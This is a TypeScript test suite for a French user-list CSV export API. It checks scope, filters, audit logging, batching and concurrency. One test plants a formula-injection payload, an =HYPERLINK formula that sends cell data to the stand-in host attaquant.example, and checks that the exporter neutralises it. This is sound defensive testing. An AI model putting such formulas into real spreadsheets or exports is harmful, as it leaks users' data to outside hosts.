// GET /api/v2/users/export (issue 21): the users list as a CSV file a French spreadsheet opens as it is, with the
// list's rights, reach and filters, streamed in keyset batches; one export per person at a time; a journal entry.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { KyselyPlugin, PluginTransformQueryArgs, PluginTransformResultArgs, QueryId, QueryResult, RootOperationNode, UnknownRow } from 'kysely';
import type { DatabaseHandle } from '../../server/db/database.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_IN_PROGRESS } from '../../server/plugins/list-concurrency.ts';
import { usersInBatches } from '../../server/features/users/users-export.repository.ts';
import { backends } from './db/test-databases.ts';
import { readCsv as readCsvFile } from './support/csv.ts';
import { fixtures } from './support/fixtures.ts';
import { callApi, demoOrganizations, PERSONAS, userIdOf, type DemoOrganizations } from './support/users-api.ts';
import { startTestApp, type TestApp } from './support/test-app.ts';

const HEADERS = ['Nom', 'Prénom', 'Email', 'Statut', 'Rôles', 'Dernière connexion', 'Fonction', 'Téléphone'];
type Query = Record<string, string | number | boolean | undefined>;

const readCsv = (text: string) => readCsvFile(text, HEADERS);

/** Holds the next batch of an export (a select of users with their sort_key) until opened. */
class BatchGate implements KyselyPlugin {
  held = 0;
  released = 0;
  #holdNext = false;
  #waiting: (() => void)[] = [];
  #gated = new WeakSet<QueryId>();

  transformQuery(args: PluginTransformQueryArgs): RootOperationNode {
    if (this.#holdNext && args.node.kind === 'SelectQueryNode' && JSON.stringify(args.node).includes('"sort_key"')) {
      this.#holdNext = false;
      this.#gated.add(args.queryId);
    }
    return args.node;
  }

  async transformResult(args: PluginTransformResultArgs): Promise<QueryResult<UnknownRow>> {
    if (this.#gated.has(args.queryId)) {
      this.held += 1;
      await new Promise<void>((resolve) => this.#waiting.push(resolve));
      this.released += 1;
    }
    return args.result;
  }

  holdNext() {
    this.held = 0;
    this.released = 0;
    this.#holdNext = true;
  }

  open() {
    for (const resolve of this.#waiting.splice(0)) resolve();
  }

  wrap = (handle: DatabaseHandle): DatabaseHandle => ({ ...handle, db: handle.db.withPlugin(this) });
}

async function until(condition: () => boolean) {
  while (!condition()) await new Promise((resolve) => setImmediate(resolve));
}

for (const backend of backends) {
  describe(`GET /api/v2/users/export on ${backend.name}`, () => {
    let t: TestApp;
    let orgs: DemoOrganizations;
    beforeAll(async () => {
      t = await startTestApp(backend);
      orgs = await demoOrganizations(t);
    }, 120_000);
    afterAll(async () => {
      await t?.close();
    });

    const exportCsv = (as: string, query: Query = {}) => callApi(t, { as, method: 'GET', route: '/api/v2/users/export', query });
    /** Every user listUsers answers for these filters, page after page. */
    async function listed(as: string, query: Query = {}): Promise<{ email: string; roles: string[] }[]> {
      const found: { email: string; roles: string[] }[] = [];
      for (let page = 1; ; page += 1) {
        const { body } = await callApi(t, { as, method: 'GET', route: '/api/v2/users', query: { ...query, page, pageSize: 100 } });
        found.push(...body.items.map((u: { email: string; roles: { organizationCode: string }[] }) => ({ email: u.email, roles: u.roles.map((r) => r.organizationCode) })));
        if (page >= body.totalPages) return found;
      }
    }
    const emailsOf = (records: string[][]) => records.slice(1).map((r) => r[2]);
    const entries = () => t.database.handle.db.selectFrom('audit_log').selectAll().where('action', '=', 'users.export').orderBy('id').execute();

    it('answers the list as a CSV file for a French spreadsheet: BOM, French headers, ; and CRLF, every active user by name', async () => {
      const { status, body, headers } = await exportCsv(PERSONAS.backoffice);
      expect(status).toBe(200);
      expect(headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(headers['content-disposition']).toMatch(/^attachment; filename="users-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(headers['cache-control']).toBe('no-store');
      const records = readCsv(body);
      expect(records.every((r) => r.length === HEADERS.length)).toBe(true);
      expect(emailsOf(records)).toEqual((await listed(PERSONAS.backoffice)).map((u) => u.email));
      const claire = records.find((r) => r[2] === 'admin.clinique@portail.test')!;
      expect(claire.slice(0, 4)).toEqual(['Vasseur', 'Claire', 'admin.clinique@portail.test', 'Actif']);
      expect(claire[4]).toMatch(/Admin Adhérent — Clinique des Tilleuls \(\d{9}\)/);
      expect(claire[5]).toMatch(/^(\d{2}\/\d{2}\/\d{4} \d{2}:\d{2})?$/);
    });

    it("writes a cell starting with = + - or @ with a leading apostrophe, so that no spreadsheet runs it", async () => {
      const f = fixtures(t.database.handle.db);
      const user = await f.user({ organizationId: orgs.cliniqueSirets[0]!.id, roleCode: 'COMPTABLE' });
      await t.database.handle.db
        .updateTable('users')
        .set({ job_title: '=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")', phone_number: '+33 6 12 34 56 78', first_name: '@Zoé', last_name: '-Formule' })
        .where('id', '=', user.id)
        .execute();
      const records = readCsv((await exportCsv(PERSONAS.backoffice, { search: user.email })).body);
      expect(records.slice(1)).toEqual([
        ["'-Formule", "'@Zoé", user.email, 'Actif', `Comptable — ${orgs.cliniqueSirets[0]!.name} (${orgs.cliniqueSirets[0]!.code})`, '', `'=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")`, "'+33 6 12 34 56 78"],
      ]);
    });

    it("keeps an organization administrator's export within their scope, each user's roles too", async () => {
      const records = readCsv((await exportCsv(PERSONAS.adminClinique, { includeInactive: true })).body);
      const expected = await listed(PERSONAS.adminClinique, { includeInactive: true });
      expect(emailsOf(records)).toEqual(expected.map((u) => u.email));
      expect(emailsOf(records)).not.toContain('admin.ehpad@portail.test');
      expect(emailsOf(records)).not.toContain('backoffice@portail.test');
      const clinicCodes = new Set([orgs.clinique.code, ...orgs.cliniqueSirets.map((o) => o.code)]);
      const codesInRoles = records.slice(1).flatMap((r) => [...r[4]!.matchAll(/\((\d+)\)/g)].map((m) => m[1]));
      expect(codesInRoles.length).toBeGreaterThan(0);
      for (const code of codesInRoles) expect(clinicCodes.has(code!)).toBe(true);
    });

    it('applies the list filters: organization, role, inactive users, search, the caller left out, each sort and order', async () => {
      const cases: Query[] = [
        { organizationId: orgs.clinique.id },
        { organizationId: orgs.cliniqueSirets[0]!.id, includeInactive: true },
        { roleCode: 'ADMIN_ADHERENT' },
        { search: 'vass' },
        { includeInactive: true, excludeSelf: true },
        { sort: 'email', order: 'desc', includeInactive: true },
        { sort: 'name', order: 'desc' },
      ];
      for (const query of cases) {
        const records = readCsv((await exportCsv(PERSONAS.backoffice, query)).body);
        expect(emailsOf(records), JSON.stringify(query)).toEqual((await listed(PERSONAS.backoffice, query)).map((u) => u.email));
      }
      // exportUsers spells the last-login sort lastLoginAt (openapi.yaml); listUsers lastLogin.
      for (const order of ['asc', 'desc']) {
        const records = readCsv((await exportCsv(PERSONAS.backoffice, { sort: 'lastLoginAt', order, includeInactive: true })).body);
        expect(emailsOf(records)).toEqual((await listed(PERSONAS.backoffice, { sort: 'lastLogin', order, includeInactive: true })).map((u) => u.email));
      }
    });

    it('answers 404 for an organization out of the caller’s reach, 403 without USER_LIST, 400 for a wrong filter; no entry', async () => {
      const before = (await entries()).length;
      expect((await exportCsv(PERSONAS.adminClinique, { organizationId: orgs.ehpad.id })).status).toBe(404);
      expect((await exportCsv(PERSONAS.rhClinique)).status).toBe(403);
      expect((await exportCsv(PERSONAS.backoffice, { sort: 'lastLogin' })).status).toBe(400);
      expect((await entries()).length).toBe(before);
    });

    it('records each export in the journal once the last row has left: who, which filters, how many rows', async () => {
      const before = (await entries()).length;
      const records = readCsv((await exportCsv(PERSONAS.adminClinique, { organizationId: orgs.clinique.id, includeInactive: true })).body);
      const all = await entries();
      expect(all.length).toBe(before + 1);
      expect(all.at(-1)).toMatchObject({
        actor_id: await userIdOf(t, PERSONAS.adminClinique),
        actor_email: PERSONAS.adminClinique,
        entity_type: 'export',
        entity_id: 'users',
        organization_id: null,
        changes: { rows: records.length - 1, filters: { organizationId: orgs.clinique.id, includeInactive: true } },
      });
      // The journal reads the filters as people do: the organization by name and code, never its id.
      const read = await callApi(t, { as: PERSONAS.backoffice, method: 'GET', route: '/api/v2/audit', query: { action: 'users.export', pageSize: '1' } });
      expect(read.body.items[0].details).toContainEqual({ field: 'filters', label: 'Filtres', before: null, after: 'Organisation : Clinique des Tilleuls (SIREN 787 441 799), Utilisateurs inactifs inclus : Oui' });
    });

    it('reads every user once in keyset batches, whatever the sort and order, ties included', async () => {
      const db = t.database.handle.db;
      // Ties on every sort key: same name, same last login.
      const f = fixtures(db);
      const twins = await Promise.all([0, 1, 2, 3].map(() => f.user({ organizationId: orgs.clinique.id, roleCode: 'COMPTABLE' })));
      await db.updateTable('users').set({ first_name: 'Jumeau', last_name: 'Identique', last_login_at: new Date('2026-05-01T10:00:00.123456Z') }).where('id', 'in', twins.map((u) => u.id)).execute();
      for (const sort of ['name', 'email', 'lastLogin'] as const) {
        for (const order of ['asc', 'desc'] as const) {
          const filter = { includeInactive: true, sort, order, scope: null };
          const ids: string[] = [];
          for await (const batch of usersInBatches(db, filter, 3)) {
            expect(batch.rows.length).toBeLessThanOrEqual(3);
            ids.push(...batch.rows.map((r) => r.id));
          }
          const listedIds: string[] = [];
          for (let page = 1; listedIds.length < ids.length + 1; page += 1) {
            const { body } = await callApi(t, { as: PERSONAS.backoffice, method: 'GET', route: '/api/v2/users', query: { includeInactive: true, sort, order, pageSize: 100, page } });
            listedIds.push(...body.items.map((u: { id: string }) => u.id));
            if (page >= body.totalPages) break;
          }
          expect(ids, `${sort} ${order}`).toEqual(listedIds);
        }
      }
    });
  });

  describe(`an export in flight on ${backend.name}`, () => {
    let t: TestApp;
    let origin: string;
    const gate = new BatchGate();
    beforeAll(async () => {
      t = await startTestApp(backend, { wrapDatabase: gate.wrap });
      await t.app.listen({ host: '127.0.0.1', port: 0 });
      origin = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
    }, 120_000);
    afterAll(async () => {
      gate.open();
      await t?.close();
    });

    /** Starts an export whose first batch of rows is held: its answer has begun (the header line), its rows wait. */
    async function startHeldExport(as: string): Promise<{ request: http.ClientRequest; response: http.IncomingMessage }> {
      gate.holdNext();
      const token = await t.tokenFor(as);
      const started = await new Promise<{ request: http.ClientRequest; response: http.IncomingMessage }>((resolve, reject) => {
        const request = http.get(`${origin}/api/v2/users/export?includeInactive=true`, { headers: { authorization: `Bearer ${token}` } }, (response) => resolve({ request, response }));
        request.on('error', reject);
      });
      await until(() => gate.held === 1);
      return started;
    }
    const exportAs = (as: string) => callApi(t, { as, method: 'GET', route: '/api/v2/users/export', query: { search: 'vasseur' } });
    const exportEntries = () => t.database.handle.db.selectFrom('audit_log').select('id').where('action', '=', 'users.export').execute();

    it('answers a second export of the same person 429 with Retry-After while the first runs; a list and another person are served', async () => {
      const first = await startHeldExport(PERSONAS.backoffice);
      const body: Buffer[] = [];
      first.response.on('data', (chunk: Buffer) => body.push(chunk));
      const ended = new Promise((resolve) => first.response.on('end', () => resolve(undefined)));
      try {
        expect(first.response.statusCode).toBe(200);
        const second = await exportAs(PERSONAS.backoffice);
        expect(second.status).toBe(429);
        expect(second.headers['retry-after']).toBe('10');
        expect(second.body.message).toBe(EXPORT_IN_PROGRESS);
        expect((await callApi(t, { as: PERSONAS.backoffice, method: 'GET', route: '/api/v2/users' })).status).toBe(200);
        expect((await exportAs(PERSONAS.lecteur)).status).toBe(200);
      } finally {
        gate.open();
      }
      await ended;
      expect(readCsv(Buffer.concat(body).toString('utf8')).length).toBeGreaterThan(10);
      // The first has ended: the slot is given back.
      expect((await exportAs(PERSONAS.backoffice)).status).toBe(200);
    });

    it('writes no journal entry for an export the client abandons, and frees the slot', async () => {
      const before = (await exportEntries()).length;
      const { request } = await startHeldExport(PERSONAS.backoffice);
      try {
        request.destroy();
        // The slot is free once the server has seen the connection close (this export is recorded: +1).
        await expect.poll(async () => (await exportAs(PERSONAS.backoffice)).status).toBe(200);
      } finally {
        gate.open();
      }
      // The abandoned export's rows come back from the database after its answer was closed: it stops there.
      await until(() => gate.released === 1);
      expect((await exportAs(PERSONAS.lecteur)).status).toBe(200);
      expect((await exportEntries()).length).toBe(before + 2);
    });
  });
}
